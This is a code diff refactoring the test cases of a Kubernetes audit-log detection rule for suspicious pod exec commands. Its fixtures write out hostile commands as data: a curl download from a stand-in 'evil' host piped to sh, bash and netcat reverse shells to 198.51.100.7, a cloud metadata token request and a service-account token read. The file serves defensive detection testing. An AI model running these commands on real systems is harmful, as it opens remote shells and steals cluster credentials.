@@ -1,5 +1,5 @@
 import { type AuditEvent, AuditStage } from '../../kubernetes/auditEvent';
-import { auditEvent } from '../exampleEvents';
+import { attachEvent, execEvent } from '../exampleEvents';
 import {
   categoriesOf,
   classifyCommandLine,
@@ -19,9 +19,8 @@ function commandMatches(event: AuditEvent): CommandMatch[] {
   return classifyCommandLine(execCommandArgs(event).join(' '));
 }
 
-const execUri = (namespace: string, pod: string, args: readonly string[], container: string): string =>
-  `/api/v1/namespaces/${namespace}/pods/${pod}/exec?${args.map((arg) => `command=${encodeURIComponent(arg)}`).join('&')}` +
-  `&container=${container}&stdin=true&stdout=true&tty=true`;
+const web1 = { namespace: 'shop', pod: 'web-1', container: 'web' };
+const readServiceAccountToken = ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'];
 
 export const suspiciousExecCommand = defineRule({
   id: 'suspicious-exec-command',
@@ -81,118 +80,56 @@ export const suspiciousExecCommand = defineRule({
     {
       name: 'a download piped into a shell',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fevil%2Fx%20%7C%20sh&container=web&stdin=true&stdout=true&tty=true',
-      }),
+      event: execEvent({ ...web1, command: ['sh', '-c', 'curl http://evil/x | sh'] }),
     },
     {
       name: 'a bash reverse shell over WebSocket exec',
       expect: 'alert',
-      event: auditEvent({
+      event: execEvent({
         verb: 'get',
-        resource: 'pods',
-        subresource: 'exec',
         namespace: 'shop',
-        name: 'api-5b6c7d8e9f-k3j2h',
-        requestURI: execUri('shop', 'api-5b6c7d8e9f-k3j2h', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], 'api'),
+        pod: 'api-5b6c7d8e9f-k3j2h',
+        container: 'api',
+        command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
       }),
     },
     {
       name: 'a managed identity token requested from the metadata endpoint',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        requestURI: execUri(
-          'shop',
-          'web-1',
-          ['curl', '-s', '-H', 'Metadata: true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'],
-          'web',
-        ),
+      event: execEvent({
+        ...web1,
+        command: ['curl', '-s', '-H', 'Metadata: true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'],
       }),
     },
     {
       name: 'the service-account token read in a kube-system pod',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'kube-system',
-        name: 'coredns-6f9c8d7b5-q8w2e',
-        requestURI: execUri('kube-system', 'coredns-6f9c8d7b5-q8w2e', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'coredns'),
-      }),
+      event: execEvent({ namespace: 'kube-system', pod: 'coredns-6f9c8d7b5-q8w2e', container: 'coredns', command: readServiceAccountToken }),
     },
     {
       name: 'an ordinary shell',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        requestURI: execUri('shop', 'web-1', ['sh'], 'web'),
-      }),
+      event: execEvent({ ...web1, command: ['sh'] }),
     },
     {
       name: 'a health check with curl',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        requestURI: execUri('shop', 'web-1', ['curl', '-s', 'http://localhost:8080/healthz'], 'web'),
-      }),
+      event: execEvent({ ...web1, command: ['curl', '-s', 'http://localhost:8080/healthz'] }),
     },
     {
       name: 'a reverse shell refused by RBAC',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        code: 403,
-        stage: AuditStage.ResponseComplete,
-        requestURI: execUri('shop', 'web-1', ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'], 'web'),
-      }),
+      event: execEvent({ ...web1, command: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'], code: 403, stage: AuditStage.ResponseComplete }),
     },
     {
       name: 'a listed system identity reads the token',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'exec',
-        namespace: 'shop',
-        name: 'web-1',
-        user: 'aksService',
-        requestURI: execUri('shop', 'web-1', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'web'),
-      }),
+      event: execEvent({ ...web1, command: readServiceAccountToken, user: 'aksService' }),
     },
     {
       name: 'an attach (no command)',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        subresource: 'attach',
-        namespace: 'shop',
-        name: 'web-1',
-        requestURI: '/api/v1/namespaces/shop/pods/web-1/attach?container=web&stdin=true&stdout=true&tty=true',
-      }),
+      event: attachEvent(web1),
     },
   ],
 });
